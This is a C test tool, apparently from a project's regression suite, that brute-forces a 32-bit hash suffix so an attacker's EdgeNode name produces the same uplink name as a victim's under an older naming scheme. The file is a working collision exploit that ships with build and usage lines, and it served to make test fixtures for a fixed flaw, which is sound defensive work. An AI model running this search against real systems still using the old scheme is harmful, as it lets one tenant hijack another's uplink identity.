/* Finds an EdgeNode name whose uplink names collided with a victim's under the old naming
 * scheme (before M8 of the December 2026 review): base = the first 36 characters of
 * "<name>-<namespace>", a dash, then 8 hex digits (32 bits) of SHA-256("<namespace>/<name>").
 * The attacker's name starts with the victim's readable part, so only the 32 bits are left to
 * match: about 2^32 hashes, a few minutes on two cores with SHA-NI.
 *
 *   cc -O2 -o /tmp/collide tests/tools/uplink_name_collision.c -lcrypto -lpthread
 *   /tmp/collide <victim-namespace> <victim-name> <attacker-namespace> [threads]
 *
 * It prints the attacker's EdgeNode name. The pair used by tests/control_plane/trust_names.rs
 * was found with: team-payments production-ingress-gateway-eu mallory 2
 * (production-ingress-gateway-eu-team-p-45299bf6: about 2.3 x 10^9 hashes, 2 min 44 s of CPU
 * on the test bed, 14 M hashes/s per core).
 */
#define OPENSSL_SUPPRESS_DEPRECATED
#include <openssl/sha.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define READABLE 36

static unsigned char target[4];
static char stem[128];
static const char *attacker_ns;
static int threads;
static volatile int found;

static void *search(void *arg) {
    uint64_t start = (uint64_t)(uintptr_t)arg;
    char input[256], suffix[32];
    int prefix = snprintf(input, sizeof input, "%s/%s-", attacker_ns, stem);
    SHA256_CTX base;
    SHA256_Init(&base);
    SHA256_Update(&base, input, (size_t)prefix);
    unsigned char digest[SHA256_DIGEST_LENGTH];
    for (uint64_t i = start; !found; i += (uint64_t)threads) {
        int n = snprintf(suffix, sizeof suffix, "%llx", (unsigned long long)i);
        SHA256_CTX ctx = base;
        SHA256_Update(&ctx, suffix, (size_t)n);
        SHA256_Final(digest, &ctx);
        if (memcmp(digest, target, 4) == 0) {
            found = 1;
            printf("%s-%s\n", stem, suffix);
            fflush(stdout);
        }
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: %s victim-ns victim-name attacker-ns [threads]\n", argv[0]);
        return 2;
    }
    threads = argc > 4 ? atoi(argv[4]) : 2;
    attacker_ns = argv[3];
    char joined[512], input[512];
    snprintf(joined, sizeof joined, "%s-%s", argv[2], argv[1]);
    /* The readable part: dots as dashes, 36 characters, trailing dashes trimmed. */
    size_t len = strlen(joined) < READABLE ? strlen(joined) : READABLE;
    memcpy(stem, joined, len);
    stem[len] = 0;
    for (size_t i = 0; i < len; i++)
        if (stem[i] == '.') stem[i] = '-';
    while (len > 0 && stem[len - 1] == '-') stem[--len] = 0;
    if (len < READABLE) {
        fprintf(stderr, "the victim's <name>-<namespace> must be at least %d characters\n", READABLE);
        return 2;
    }
    snprintf(input, sizeof input, "%s/%s", argv[1], argv[2]);
    unsigned char digest[SHA256_DIGEST_LENGTH];
    SHA256((unsigned char *)input, strlen(input), digest);
    memcpy(target, digest, 4);
    pthread_t tids[64];
    if (threads < 1 || threads > 64) threads = 2;
    for (int t = 0; t < threads; t++)
        pthread_create(&tids[t], NULL, search, (void *)(uintptr_t)t);
    for (int t = 0; t < threads; t++) pthread_join(tids[t], NULL);
    return 0;
}
